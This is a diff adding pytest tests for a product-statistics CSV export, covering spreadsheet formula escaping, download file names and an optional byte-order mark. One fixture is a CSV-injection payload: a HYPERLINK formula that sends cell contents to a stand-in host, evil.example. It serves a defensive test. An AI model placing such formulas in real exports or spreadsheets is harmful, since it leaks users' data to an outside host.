@@ -310,6 +310,45 @@ def test_csv_matches_the_json(app, client, make, admin, viewers):
     assert top_csv[0]["name"] == "zapatos, rojos"
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(app, client, make, admin, name):
+    make.product("abc", name=name)
+    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
+    response = client.get(
+        "/api/stats/products?from=2026-07-01&to=2026-07-01&format=csv", headers=admin["headers"]
+    )
+    [row] = parse_csv(response)
+    assert row["name"] == "'" + name
+    assert row["views"] == "1"  # numbers stay numbers
+
+
+def test_csv_file_names_carry_the_range_and_bom_is_optional(app, client, make, admin):
+    make.product("abc", name="café crème")
+    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
+    h = admin["headers"]
+    query = "from=2026-07-01&to=2026-07-02&format=csv"
+    top = client.get(f"/api/stats/products?{query}", headers=h)
+    assert top.headers["Content-Disposition"] == (
+        'attachment; filename="top-products-2026-07-01-to-2026-07-02.csv"'
+    )
+    assert top.data.startswith(b"sku,")  # no BOM unless asked
+    one = client.get(f"/api/products/abc/stats?{query}", headers=h)
+    assert one.headers["Content-Disposition"] == (
+        'attachment; filename="abc-views-2026-07-01-to-2026-07-02.csv"'
+    )
+    with_bom = client.get(f"/api/stats/products?{query}&bom=1", headers=h)
+    assert with_bom.data.startswith("\ufeffsku,".encode())
+    assert "café crème" in with_bom.data.decode("utf-8-sig")
+
+
 @pytest.mark.parametrize(
     ("query", "field"),
     [
